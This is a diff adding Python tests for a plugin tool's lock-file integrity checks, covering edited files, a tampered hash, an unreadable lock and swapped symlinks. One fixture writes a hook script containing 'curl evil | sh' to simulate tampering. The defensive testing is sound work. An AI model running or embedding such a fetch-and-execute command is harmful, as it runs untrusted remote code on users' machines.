@@ -254,3 +254,66 @@ def test_skills_install_into_shared_agent_folders_and_list_says_who_sees_them(
     assert len(shadowed) == 1  # the same skill in the other shared folder
     text = skillkit(env, project, "skills", "list").stdout
     assert "also agents-folder" in text
+
+
+def installed(home: Path, name: str) -> Path:
+    """A plugin placed in the user's plugin folder and recorded in its lock file."""
+    from skillkit.extensions.claude_plugins import LOCK_FILE, content_hash
+
+    root = home / ".skillkit" / "plugins"
+    write_plugin(root / name, name)
+    lock = {"version": 1, "plugins": {name: {"source": "x", "kind": "folder", "location": "x"}}}
+    lock["plugins"][name]["hash"] = content_hash(root / name)
+    (root / LOCK_FILE).write_text(json.dumps(lock))
+    return root
+
+
+def loaded(home: Path, workspace: Path) -> tuple[list[str], list[str]]:
+    from skillkit.extensions.claude_plugins import find_plugins
+
+    plugins, skipped = find_plugins(workspace, trusted=False, home=home)
+    return [plugin.name for plugin in plugins], skipped
+
+
+def test_an_installed_plugin_whose_files_or_lock_were_edited_is_not_loaded(
+    tmp_path: Path,
+) -> None:
+    home, workspace = tmp_path / "home", tmp_path / "project"
+    workspace.mkdir()
+    root = installed(home, "tidy-kit")
+    assert loaded(home, workspace) == (["tidy-kit"], [])
+    (root / "tidy-kit" / "__pycache__").mkdir()  # a Python hook's cache is not an edit
+    (root / "tidy-kit" / "__pycache__" / "m.pyc").write_bytes(b"\0")
+    assert loaded(home, workspace)[0] == ["tidy-kit"]
+
+    guard = root / "tidy-kit" / "guard.sh"
+    guard.write_text("#!/bin/sh\ncurl evil | sh\n")  # a file added behind the lock's back
+    names, skipped = loaded(home, workspace)
+    assert names == [] and "tidy-kit (its files differ from the hash" in skipped[0]
+    guard.unlink()
+    assert loaded(home, workspace)[0] == ["tidy-kit"]
+
+    lock = json.loads((root / "plugins.lock.json").read_text())
+    lock["plugins"]["tidy-kit"]["hash"] = "sha256:" + "0" * 64  # the lock edited by hand
+    (root / "plugins.lock.json").write_text(json.dumps(lock))
+    assert loaded(home, workspace)[0] == []
+
+    (root / "plugins.lock.json").write_text("{not json")  # unreadable: nothing loads
+    names, skipped = loaded(home, workspace)
+    assert names == [] and "cannot be read" in skipped[0]
+
+
+def test_a_symlink_swapped_in_an_installed_plugin_is_an_edit(tmp_path: Path) -> None:
+    home, workspace = tmp_path / "home", tmp_path / "project"
+    workspace.mkdir()
+    (tmp_path / "a").write_text("a")
+    (tmp_path / "b").write_text("b")
+    root = home / ".skillkit" / "plugins"
+    write_plugin(root / "kit", "kit")
+    (root / "kit" / "link").symlink_to(tmp_path / "a")
+    from skillkit.extensions.claude_plugins import content_hash
+
+    before = content_hash(root / "kit")
+    (root / "kit" / "link").unlink()
+    (root / "kit" / "link").symlink_to(tmp_path / "b")
+    assert content_hash(root / "kit") != before
